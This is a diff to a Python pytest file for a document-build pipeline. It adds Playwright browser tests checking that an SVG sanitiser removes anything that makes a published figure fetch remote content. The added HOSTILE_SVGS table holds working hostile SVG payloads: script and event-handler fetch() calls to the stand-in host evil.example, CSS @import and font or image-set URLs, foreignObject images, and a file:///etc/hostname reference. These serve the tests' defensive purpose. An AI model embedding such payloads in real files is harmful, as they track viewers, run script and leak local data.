@@ -14,12 +14,13 @@ from __future__ import annotations
 import re
 import shutil
 import zipfile
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
 
 import pikepdf
 import pytest
+from playwright.sync_api import Browser
 from lxml import etree
 from lxml import html as lxml_html
 from PIL import Image
@@ -28,9 +29,11 @@ from pipeline import limits
 from pipeline.brand import load_brand
 from pipeline.builder import Project, build
 from pipeline.formats import FORMATS
+from pipeline.svgclean import clean_svg
 from pipeline.templates import environment
 from tests import oversized
 from tests.bounded import run_bounded
+from tests.browser import chromium
 from tests.conftest import ROOT
 from tests.test_build import make_project, snapshot
 from tests.test_source import GOOD
@@ -687,7 +690,7 @@ def test_hostile_text_is_only_text_in_every_output(tmp_path: Path) -> None:
     assert {".html", ".pdf", ".docx", ".svg", ".png"} <= kinds_seen, kinds_seen
     assert {p.name: active_content(p) for p in outputs if active_content(p)} == {}
     published_svgs = [p for p in outputs if p.suffix == ".svg" and "clean" in p.name]
-    assert published_svgs and all(p.read_text() == CLEAN_SVG for p in published_svgs)
+    assert published_svgs and all("<path" in p.read_text() for p in published_svgs), "redrawn"
     page = (project.output_dir / "sample" / "index.html").read_text()
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown as text, in the title too
     assert snapshot(project.output_dir / "other") == other_before, "other documents unchanged"
@@ -722,3 +725,88 @@ def test_weasyprint_reads_nothing_outside_the_project(tmp_path: Path, url: str) 
     page = f'<p>x</p><img src="{url}" alt="x">'
     with pytest.raises(FatalURLFetchingError, match="refused to"):
         weasy.fenced(page, tmp_path, load_brand(ROOT / "styles")).render()
+
+
+# -- SVG figures: what a published one fetches when opened in a browser ----------------------
+
+EVIL = "http://evil.example"
+HOSTILE_SVGS = {
+    "<style> with an XML comment": f"<style><!-- x -->@font-face {{ font-family: f; src: "
+    f"url({EVIL}/font.woff) }} text {{ font-family: f }}</style><text y='9'>Hi</text>",
+    "<style> with a child element first": f"<style><g/>rect {{ fill: url({EVIL}/p.svg#p) }}"
+    "</style><rect width='9' height='9'/>",
+    "image-set()": f"<style>rect {{ fill: red; mask-image: image-set('{EVIL}/m.png' 1x) }}</style>"
+    "<rect width='9' height='9'/>",
+    "@import": f"<style>@import url({EVIL}/x.css);</style><rect width='9' height='9'/>",
+    "url(http://...) in an attribute": f"<rect width='9' height='9' fill='url({EVIL}/p.svg#p)'/>",
+    "xlink:href outside": f"<image xlink:href='{EVIL}/i.png' width='9' height='9'/>",
+    "<script>": f"<script>fetch('{EVIL}/script')</script><circle r='4'/>",
+    "onload": f"<circle r='4'/><set attributeName='fill' to='red' onbegin=\"fetch('{EVIL}/on')\"/>",
+    "<foreignObject>": f"<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/"
+    f"xhtml' src='{EVIL}/fo.png'/></foreignObject><circle r='4'/>",
+    "file: reference": "<image href='file:///etc/hostname' width='9' height='9'/><circle r='4'/>",
+}
+SVG_HOSTILE_OPEN = SVG_OPEN.replace(">", f" width='20' height='20' onload=\"fetch('{EVIL}/load')\">")
+
+
+def requests_made(browser: Browser, path: Path) -> list[str]:
+    """Every URL the browser asks for while it opens `path` at its own address and lets it
+    run for a moment (each fetch aborted, so nothing leaves the machine)."""
+    seen: list[str] = []
+    context = browser.new_context()
+    try:
+        page = context.new_page()
+        page.on("request", lambda request: seen.append(request.url))
+        page.route("**/*", lambda route: route.abort() if "evil" in route.request.url else route.continue_())
+        page.goto(path.as_uri(), wait_until="load")
+        page.wait_for_timeout(300)
+    finally:
+        context.close()
+    return [url for url in seen if url != path.as_uri()]
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with chromium() as browser:
+        yield browser
+
+
+@pytest.mark.parametrize("case", HOSTILE_SVGS)
+def test_an_svg_drawn_again_fetches_nothing_in_a_browser(
+    browser: Browser, tmp_path: Path, case: str
+) -> None:
+    """Whatever the author's SVG holds, what svgclean makes of it fetches nothing when opened
+    at its own address; the author's file itself (the control) does reach out, or the case
+    would prove nothing."""
+    original = tmp_path / "original.svg"
+    original.write_text(f"{SVG_HOSTILE_OPEN}{HOSTILE_SVGS[case]}</svg>")
+    assert requests_made(browser, original), "the control: the original fetches something"
+    cleaned = tmp_path / "cleaned.svg"
+    cleaned.write_bytes(clean_svg(original.read_bytes()))
+    assert requests_made(browser, cleaned) == []
+    assert _active_svg(cleaned) == []
+
+
+def test_a_published_svg_with_script_and_handlers_fetches_nothing(
+    browser: Browser, tmp_path: Path
+) -> None:
+    """Scripts, handlers and animations draw nothing: the loader lets such an SVG through and
+    the build publishes it drawn again, as shapes alone, in the page's and the one-pager's
+    images/ and inside the DOCX."""
+    project = make_project(tmp_path, {"sample": GOOD})
+    images = project.source_dir / "images"
+    images.mkdir()
+    body = HOSTILE_SVGS["<script>"] + HOSTILE_SVGS["onload"] + "<rect width='5' height='5'/>"
+    (images / "spine.svg").write_text(f"{SVG_HOSTILE_OPEN}{body}</svg>")
+    assert requests_made(browser, images / "spine.svg"), "the control"
+    (project.source_dir / "sample.md").write_text(GOOD.replace(PARA, f"{PARA}\n\n{FIGURE}"))
+
+    report = build(project, kinds=["html", "docx"])
+
+    assert not report.failed, report.lines
+    [published] = (project.output_dir / "sample" / "images").glob("*spine.svg")
+    assert requests_made(browser, published) == []
+    assert _active_svg(published) == []
+    with zipfile.ZipFile(project.output_dir / "sample" / "sample.docx") as package:
+        [inside] = [name for name in package.namelist() if name.endswith(".svg")]
+        assert package.read(inside) == published.read_bytes(), "the same drawing in the DOCX"
